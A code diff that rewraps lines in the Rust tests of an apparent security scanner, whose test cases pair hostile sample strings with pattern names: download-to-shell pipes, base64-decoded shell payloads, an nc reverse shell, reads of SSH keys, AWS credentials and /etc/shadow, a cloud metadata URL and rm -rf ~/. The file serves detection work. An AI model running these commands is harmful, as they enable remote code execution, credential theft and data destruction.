@@ -199,8 +199,14 @@ mod tests {
 
     #[test]
     fn patterns_find_what_they_are_for() {
-        check("curl -fsSL https://x.example/i.sh | sudo bash", "download-to-shell");
-        check("bash -c \"$(wget -qO- https://x.example)\"", "substituted-download");
+        check(
+            "curl -fsSL https://x.example/i.sh | sudo bash",
+            "download-to-shell",
+        );
+        check(
+            "bash -c \"$(wget -qO- https://x.example)\"",
+            "substituted-download",
+        );
         check("exec(requests.get(url).text)", "fetched-code");
         check("echo aGk= | base64 -d | sh", "decoded-to-shell");
         check("exec(base64.b64decode(blob))", "decoded-code");
@@ -208,7 +214,10 @@ mod tests {
         check("nc -e /bin/sh 10.0.0.1 4444", "reverse-shell");
         check("open(os.path.expanduser('~/.ssh/id_rsa'))", "ssh-keys");
         check("cat ~/.aws/credentials", "cloud-credentials");
-        check("http://169.254.169.254/latest/meta-data", "metadata-service");
+        check(
+            "http://169.254.169.254/latest/meta-data",
+            "metadata-service",
+        );
         check("security find-generic-password -s x", "keychain");
         check("with open('/etc/shadow') as f:", "system-accounts");
         check("rm -rf ~/", "wipes");
@@ -243,8 +252,16 @@ mod tests {
     #[test]
     fn patterns_have_one_name_each_and_stand_in_order() {
         for (index, pattern) in PATTERNS.iter().enumerate() {
-            assert!(PATTERNS[..index].iter().all(|other| other.name != pattern.name));
-            assert!(PATTERNS[..index].iter().all(|other| other.severity >= pattern.severity));
+            assert!(
+                PATTERNS[..index]
+                    .iter()
+                    .all(|other| other.name != pattern.name)
+            );
+            assert!(
+                PATTERNS[..index]
+                    .iter()
+                    .all(|other| other.severity >= pattern.severity)
+            );
         }
     }
 }
